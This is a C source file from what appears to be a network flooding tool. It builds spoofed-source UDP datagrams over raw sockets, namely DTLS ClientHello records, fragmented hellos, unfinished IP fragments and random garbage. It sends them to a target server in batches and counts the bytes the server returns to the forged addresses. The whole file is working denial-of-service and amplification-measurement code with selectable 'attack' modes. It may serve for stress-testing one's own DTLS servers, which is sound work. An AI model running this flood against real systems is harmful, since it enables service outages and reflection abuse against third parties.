// Datagrams whose source is not ours, and what comes back for it.
#include "flood.h"

#include <arpa/inet.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/ip.h>
#include <netinet/udp.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#define FROM 0x64400000 // 100.64.0.0/10
#define FROM_MASK 0xffc00000
#define BATCH 32
#define ROOM 512
#define HELLO_BODY 83 // version, random, session id, no cookie, two suites, no compression, extended master secret
#define RECORD_HEADER 13
#define HANDSHAKE_HEADER 12

struct datagram {
	struct iphdr ip;
	struct udphdr udp;
	uint8_t payload[ROOM];
} __attribute__((packed));

static void fill_random(uint8_t *to, size_t n)
{
	for (size_t i = 0; i < n; i++)
		to[i] = (uint8_t)random_below(256);
}

static void be(uint8_t *to, size_t n, uint64_t value)
{
	while (n-- > 0) {
		to[n] = (uint8_t)value;
		value >>= 8;
	}
}

static void hello_body(uint8_t *b, bool known)
{
	static const uint8_t end[] = { 0, 0, 4, 0xc0, 0x30, 0x00, 0xa9, 1, 0, 0, 4, 0, 23, 0, 0 };

	b[0] = 0xfe, b[1] = 0xfd;
	fill_random(b + 2, 32);
	b[34] = 32;
	if (known && wish.n_ids)
		memcpy(b + 35, wish.ids[random_below(wish.n_ids)], 32);
	else
		fill_random(b + 35, 32);
	memcpy(b + 67, end, sizeof(end));
	b[82] = 0;
}

// One record with `len` bytes of the ClientHello from `at` on.
static size_t hello(uint8_t *p, bool known, size_t at, size_t len)
{
	uint8_t body[HELLO_BODY];

	hello_body(body, known);
	p[0] = 22, p[1] = 0xfe, p[2] = 0xff;
	be(p + 3, 8, 0);
	be(p + 11, 2, HANDSHAKE_HEADER + len);
	p += RECORD_HEADER;
	p[0] = 1;
	be(p + 1, 3, HELLO_BODY - 1);
	be(p + 4, 2, 0);
	be(p + 6, 3, at);
	be(p + 9, 3, len);
	memcpy(p + HANDSHAKE_HEADER, body + at, len);
	return RECORD_HEADER + HANDSHAKE_HEADER + len;
}

static size_t hello_unknown(uint8_t *p)
{
	return hello(p, false, 0, HELLO_BODY - 1);
}
static size_t hello_known(uint8_t *p)
{
	return hello(p, true, 0, HELLO_BODY - 1);
}

static size_t hello_fragment(uint8_t *p)
{
	size_t at = random_below(HELLO_BODY - 2);

	return hello(p, random_below(2), at, 1 + random_below((uint32_t)(HELLO_BODY - 1 - at)));
}

static size_t garbage(uint8_t *p)
{
	size_t len = 1 + random_below(ROOM - 1);

	fill_random(p, len);
	if (random_below(2)) // like a record
		p[0] = (uint8_t)(20 + random_below(4)), p[1] = 0xfe, p[2] = 0xfd;
	return len;
}

static const struct kind {
	const char *name;
	size_t (*payload)(uint8_t *p);
	bool fragments; // of IP, without their ends
} kinds[] = {
	{ "hello", hello_unknown, false },
	{ "hello-known", hello_known, false },
	{ "hello-fragments", hello_fragment, false },
	{ "ip-fragments", hello_unknown, true },
	{ "garbage", garbage, false },
};

static size_t make(struct datagram *d, const struct kind *k)
{
	const struct sockaddr_in *to = (const struct sockaddr_in *)&wish.server;
	size_t len = k->payload(d->payload), all = sizeof(d->ip) + sizeof(d->udp) + len;

	if (k->fragments)
		all &= ~7UL, all -= 24;
	d->ip = (struct iphdr){
		.version = 4,
		.ihl = 5,
		.ttl = 64,
		.protocol = IPPROTO_UDP,
		.tot_len = htons((uint16_t)all),
		.id = htons((uint16_t)random_below(65536)),
		.frag_off = htons(k->fragments ? IP_MF : 0),
		.saddr = htonl(FROM + random_below(1 << 22)),
		.daddr = to->sin_addr.s_addr,
	};
	if (k->fragments) // a multiple of eight bytes behind the header
		d->ip.tot_len = htons((uint16_t)(sizeof(d->ip) + ((all - sizeof(d->ip)) & ~7UL)));
	d->udp = (struct udphdr){ .source = htons((uint16_t)(1024 + random_below(60000))),
		                  .dest = to->sin_port,
		                  .len = htons((uint16_t)(sizeof(d->udp) + len)) };
	return ntohs(d->ip.tot_len);
}

// Everything from the server's port to those addresses, whoever it is for.
static int listen_to_answers(void)
{
	struct sockaddr_ll at = { .sll_family = AF_PACKET,
		                  .sll_protocol = htons(ETH_P_IP),
		                  .sll_ifindex = (int)if_nametoindex(wish.interface) };
	int fd = socket(AF_PACKET, SOCK_DGRAM | SOCK_NONBLOCK | SOCK_CLOEXEC, htons(ETH_P_IP));

	if (fd < 0 || !at.sll_ifindex || bind(fd, (struct sockaddr *)&at, sizeof(at)) < 0) {
		perror(wish.interface);
		exit(1);
	}
	return fd;
}

static void count_answers(int fd)
{
	const struct sockaddr_in *to = (const struct sockaddr_in *)&wish.server;
	uint8_t buf[2048];
	ssize_t n;

	while ((n = recv(fd, buf, sizeof(buf), 0)) > 0) {
		const struct iphdr *ip = (const struct iphdr *)buf;

		if (n >= (ssize_t)sizeof(*ip) && ip->saddr == to->sin_addr.s_addr && (ntohl(ip->daddr) & FROM_MASK) == FROM)
			counts.bytes_in += ntohs(ip->tot_len);
	}
}

static void send_batch(int fd, const struct kind *k)
{
	static struct datagram all[BATCH];
	struct iovec iov[BATCH];
	struct mmsghdr m[BATCH];
	int n;

	for (int i = 0; i < BATCH; i++) {
		iov[i] = (struct iovec){ &all[i], make(&all[i], k) };
		m[i] = (struct mmsghdr){
			.msg_hdr = { .msg_name = &wish.server, .msg_namelen = wish.server_len, .msg_iov = &iov[i], .msg_iovlen = 1 }
		};
	}
	n = sendmmsg(fd, m, BATCH, 0);
	for (int i = 0; i < n; i++) {
		counts.made++;
		counts.bytes_out += iov[i].iov_len;
	}
	if (n <= 0)
		usleep(1000);
}

int datagrams_run(const char *attack)
{
	const struct kind *k = NULL;
	double began = now;
	int fd, answers;

	for (size_t i = 0; i < sizeof(kinds) / sizeof(*kinds); i++)
		if (strcmp(kinds[i].name, attack) == 0)
			k = &kinds[i];
	if (!k || wish.server.ss_family != AF_INET)
		return -1;
	fd = socket(AF_INET, SOCK_RAW | SOCK_CLOEXEC, IPPROTO_RAW);
	if (fd < 0) {
		perror("raw socket");
		exit(1);
	}
	answers = listen_to_answers();
	for (; now < began + wish.seconds; clock_read()) {
		if (wish.rate && (double)counts.made > (now - began) * wish.rate)
			usleep(1000);
		else
			send_batch(fd, k);
		count_answers(answers);
	}
	usleep(200000); // the last ones
	count_answers(answers);
	close(fd);
	close(answers);
	return 0;
}
